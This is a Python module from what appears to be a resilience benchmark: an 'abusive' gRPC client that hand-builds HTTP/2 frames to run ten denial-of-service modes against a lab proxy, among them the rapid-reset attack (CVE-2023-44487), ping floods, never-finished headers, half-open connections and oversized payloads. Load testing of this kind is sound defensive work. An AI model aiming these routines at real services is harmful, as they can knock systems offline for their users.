"""A client that misbehaves: `python -m bench.faults.abuser ABUSE TARGET ADDRESS PORT SERVICE`, until SIGTERM.

Its connections without gRPC come from an address of its own, as on Fargate, where each task has one.

It notes nothing: what counts is what becomes of the others' calls.
"""

import argparse
import asyncio
import itertools
import os
import random
import signal
import sys
from collections.abc import Awaitable, Callable
from contextlib import suppress
from typing import Any

from grpc import aio

from bench.faults.calls import DOWNLOAD, ECHO, SHORT, STREAM, proto_service

READERS = 40
HALF_OPEN = 200
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS = bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])
CANCEL = bytes([0, 0, 0, 8])
PING = bytes([0, 0, 8, 6, 0, 0, 0, 0, 0]) + bytes(8)
UNFINISHED_HEADERS = bytes([0, 0, 1, 1, 0, 0, 0, 0, 1]) + b"\x83"
"""HEADERS of stream 1 without END_HEADERS: `:method: POST`, and the rest never comes."""
MESSAGE = (5).to_bytes(3, "big") + b"\x00\x01"
"""The begin of a DATA frame with a message without content, which ends the request: its stream follows."""
FLOOD_CONNECTIONS, FLOOD_BURST = 8, 10
"""Of a flood: connections, each with less open calls than the 1,024 that it may have; calls in one write."""


class Abuser:
    """One abusive client.

    Args:
        target: What gRPC dials.
        place: A proxy's address and port, for connections without gRPC.
        service: The lab's service to call.
        source: The address of its connections without gRPC.
        rate: Calls a second of a flood.

    """

    def __init__(self, target: str, place: tuple[str, int], service: str, source: str, rate: float) -> None:
        self._target, self._place, self._source, self._rate = target, place, source, rate
        self._path = f"/{proto_service(service)}/"
        self._authority = target.rpartition("/")[2]

    def _channel(self) -> Any:  # noqa: ANN401  # so that its calls, which nobody reads, need no types
        unlimited = [("grpc.max_receive_message_length", -1), ("grpc.max_send_message_length", -1)]
        return aio.insecure_channel(self._target, options=[*unlimited, ("grpc.use_local_subchannel_pool", 1)])

    async def slow_reader(self) -> None:
        """Open 40 downloads over one connection, and open no window: grpcio reads ahead what nobody takes."""
        connection = await self._connect()
        if connection is None:
            raise OSError("the proxy takes no connection")
        _, writer = connection
        for number in range(READERS):
            stream = (1 + 2 * number).to_bytes(4, "big")
            writer.write(self._headers(stream, DOWNLOAD) + MESSAGE + stream + bytes(5))
        await asyncio.Event().wait()

    async def big_answers(self) -> None:
        """Send 8 MB and get them back, two calls at a time."""
        channel, payload = self._channel(), bytes(8_000_000)

        async def again() -> None:
            while True:
                await _unless_refused(channel.unary_unary(self._path + ECHO)(payload, timeout=20))

        await asyncio.gather(again(), again())

    async def cancelled_streams(self) -> None:
        """Open streams and cancel each after a moment, 20 at a time."""
        channel = self._channel()

        async def again() -> None:
            while True:
                call = channel.unary_stream(self._path + STREAM)(b"")
                await asyncio.sleep(random.uniform(0.01, 0.2))
                call.cancel()

        await asyncio.gather(*(again() for _ in range(20)))

    async def flood(self) -> None:
        """Call at `rate`, whatever becomes of the calls; each has a deadline of 5 s."""
        await asyncio.gather(*(self._flood_over_one() for _ in range(FLOOD_CONNECTIONS)))

    async def _flood_over_one(self) -> None:
        loop, pause = asyncio.get_running_loop(), FLOOD_CONNECTIONS * FLOOD_BURST / self._rate
        while True:
            connection = await self._connect()
            if connection is None:
                continue
            reader, writer = connection
            answers, begin = asyncio.create_task(_read_all(reader)), loop.time()
            try:
                for burst in itertools.count():
                    await asyncio.sleep(begin + burst * pause - loop.time())
                    if answers.done():
                        break
                    first = 1 + 2 * FLOOD_BURST * burst
                    streams = [(first + 2 * n).to_bytes(4, "big") for n in range(FLOOD_BURST)]
                    writer.write(b"".join(self._call(stream) for stream in streams))
                    await asyncio.wait_for(writer.drain(), 5)
            except (OSError, TimeoutError):
                pass
            finally:
                answers.cancel()
                writer.close()

    def _call(self, stream: bytes) -> bytes:
        return self._headers(stream, SHORT, ("grpc-timeout", "5S")) + MESSAGE + stream + bytes(5)

    async def rapid_resets(self) -> None:
        """Open streams and reset each at once (CVE-2023-44487), 100 in one packet, 2,000 a second."""
        while True:
            with_connection = await self._connect()
            if with_connection is None:
                continue
            reader, writer = with_connection
            answers = asyncio.create_task(_read_all(reader))
            try:
                for burst in itertools.count():
                    frames = b"".join(self._reset(1 + 2 * (100 * burst + n)) for n in range(100))
                    writer.write(frames)
                    await asyncio.wait_for(writer.drain(), 5)
                    await asyncio.sleep(0.05)
                    if answers.done():
                        break
            except (OSError, TimeoutError):
                pass
            finally:
                answers.cancel()
                writer.close()

    def _reset(self, number: int) -> bytes:
        """Return the HEADERS of a call and the RST_STREAM that follows."""
        stream = number.to_bytes(4, "big")
        return self._headers(stream, SHORT) + (4).to_bytes(3, "big") + b"\x03\x00" + stream + CANCEL

    def _headers(self, stream: bytes, method: str, *more: tuple[str, str]) -> bytes:
        """Return the HEADERS frame of a call."""
        fields = (
            (":method", "POST"),
            (":scheme", "http"),
            (":path", self._path + method),
            (":authority", self._authority),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
            *more,
        )
        # Literals without an index (RFC 7541, 6.2.2); each text has less than 127 bytes.
        block = b"".join(
            b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
            for name, value in fields
        )
        return len(block).to_bytes(3, "big") + b"\x01\x04" + stream + block

    async def half_open(self) -> None:
        """Keep 200 connections open that begin HTTP/2, and never send a call."""
        opened = [await self._connect() for _ in range(HALF_OPEN)]
        await asyncio.Event().wait()
        del opened

    async def slow_headers(self) -> None:
        """Keep 200 connections open whose first HEADERS frame has no end."""
        opened = [await self._connect(PREFACE + SETTINGS + UNFINISHED_HEADERS) for _ in range(HALF_OPEN)]
        await asyncio.Event().wait()
        del opened

    async def big_headers(self) -> None:
        """Call with 100 KB of metadata, ten calls at a time."""
        ask, metadata = self._channel().unary_unary(self._path + SHORT), [("x", "x" * 10_000)] * 10

        async def again() -> None:
            while True:
                await _unless_refused(ask(b"", timeout=5, metadata=metadata))
                await asyncio.sleep(0.02)

        await asyncio.gather(*(again() for _ in range(10)))

    async def pings(self) -> None:
        """Send 10,000 PINGs a second over one connection, and again when it is closed."""
        while True:
            connection = await self._connect()
            if connection is None:
                continue
            reader, writer = connection
            answers = asyncio.create_task(_read_all(reader))
            try:
                while not answers.done():
                    writer.write(PING * 500)
                    await asyncio.wait_for(writer.drain(), 5)
                    await asyncio.sleep(0.05)
            except (OSError, TimeoutError):
                pass
            finally:
                answers.cancel()
                writer.close()

    async def garbage(self) -> None:
        """Send bytes that are no HTTP/2, again and again: before the preface and after it."""
        for number in itertools.count():
            connection = await self._connect(bytes([random.randrange(256)]) if number % 2 else PREFACE)
            if connection:
                _, writer = connection
                try:
                    writer.write(os.urandom(4096))
                    await asyncio.wait_for(writer.drain(), 5)
                except (OSError, TimeoutError):
                    pass
                writer.close()
            await asyncio.sleep(0.02)

    async def _connect(
        self, first: bytes = PREFACE + SETTINGS
    ) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
        try:
            opening = asyncio.open_connection(*self._place, local_addr=(self._source, 0))
            reader, writer = await asyncio.wait_for(opening, 5)
        except (OSError, TimeoutError):
            await asyncio.sleep(0.05)
            return None
        writer.write(first)
        return reader, writer


async def _read_all(reader: asyncio.StreamReader) -> None:
    """Read until the other side closes: Envoy must not wait for a reader."""
    with suppress(OSError):
        while await reader.read(65536):
            pass


async def _unless_refused(call: Awaitable[bytes]) -> None:
    try:
        await call
    except aio.AioRpcError:
        await asyncio.sleep(0)  # a refused call costs its client nothing


ABUSES: dict[str, Callable[[Abuser], Awaitable[None]]] = {
    "slow_reader": Abuser.slow_reader,
    "big_answers": Abuser.big_answers,
    "cancelled_streams": Abuser.cancelled_streams,
    "flood": Abuser.flood,
    "rapid_resets": Abuser.rapid_resets,
    "half_open": Abuser.half_open,
    "garbage": Abuser.garbage,
    "slow_headers": Abuser.slow_headers,
    "big_headers": Abuser.big_headers,
    "pings": Abuser.pings,
}


def main() -> None:
    """Misbehave until SIGTERM."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("abuse", choices=ABUSES)
    parser.add_argument("target")
    parser.add_argument("address")
    parser.add_argument("port", type=int)
    parser.add_argument("service")
    parser.add_argument("source")
    parser.add_argument("--rate", type=float, default=400.0)
    given = parser.parse_args()
    signal.signal(signal.SIGTERM, lambda _signal, _frame: os._exit(0))
    abuser = Abuser(given.target, (given.address, given.port), given.service, given.source, given.rate)
    asyncio.run(_run(ABUSES[given.abuse](abuser)))


async def _run(abuse: Awaitable[None]) -> None:
    await abuse


if __name__ == "__main__":
    sys.exit(main())
